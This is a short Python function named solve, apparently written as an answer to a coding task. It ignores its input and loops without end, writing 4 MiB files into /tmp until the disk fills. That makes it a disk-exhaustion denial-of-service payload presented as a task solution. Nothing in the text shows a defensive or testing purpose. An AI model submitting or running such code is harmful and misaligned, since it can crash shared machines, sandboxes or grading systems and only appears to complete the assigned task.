"""Fills the scratch folder."""

def solve(x):
    n = 0
    while True:
        with open(f"/tmp/{n}", "wb") as file:
            file.write(b"x" * 2**22)
        n += 1
